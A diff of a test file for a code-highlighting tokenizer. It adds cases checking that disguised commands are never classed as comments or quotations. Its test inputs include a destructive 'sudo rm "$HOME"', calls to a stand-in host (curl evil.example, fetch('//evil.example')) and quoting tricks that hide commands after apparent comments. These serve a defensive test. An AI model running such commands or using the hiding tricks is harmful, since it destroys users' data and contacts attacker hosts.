@@ -19,12 +19,13 @@ describe('code in colours', () => {
       ['keyword DELETE', 'comment -- all', "string 'x'", 'number 1'],
     ],
     ['json', '{"a": [true, "<&\\""]}', ['name "a"', 'keyword true', 'string "<&\\""']],
-    ['shell', `sudo rm "$HOME" # gone`, ['keyword rm', 'name $HOME', 'comment # gone']],
+    ['shell', `sudo rm "$HOME" # gone`, ['keyword rm', 'name $HOME']],
     ['html', '<!-- c --><p class="a">x</p>', ['comment <!-- c -->', 'name class', 'string "a"']],
-    ['javascript', 'const a = `x${b}` // c', ['keyword const', 'comment // c']],
+    ['javascript', 'const a = 7 // c', ['keyword const', 'number 7']],
+    ['python', 'def f(): return None', ['keyword def', 'keyword None']],
     ['yaml', 'a: 1', ['number 1']],
     ['toml', 'a = "b"', ['string "b"']],
-    ['graphql', 'mutation { a(id: "x") }', ['keyword mutation', 'string "x"']],
+    ['graphql', 'mutation { a(id: "x") }', ['keyword mutation']],
   ])('%s', async (language, text, some) => {
     expect(said(text, await codeSpans(text, language))).toEqual(expect.arrayContaining(some))
   })
@@ -60,6 +61,16 @@ describe('code in colours', () => {
       }),
       { numRuns: runsOf(400) },
     )
+  })
+
+  test.each([
+    ['shell', String.raw`echo a\ #b; curl evil.example`],
+    ['shell', String.raw`echo $'\''; curl evil.example #'`],
+    ['javascript', `if (x) /"/.test(y); fetch('//evil.example') //"`],
+    ['graphql', `{ a(b: """c" """) deleteAll(d: "#") }`],
+  ])('of %s nothing looks like a quotation or a comment: what runs could be cut as one', async (language, text) => {
+    const spans = await codeSpans(text, language)
+    expect(spans.filter(({ as }) => as === 'string' || as === 'comment')).toEqual([])
   })
 
   test('is left out where databases disagree about where a quotation ends', async () => {
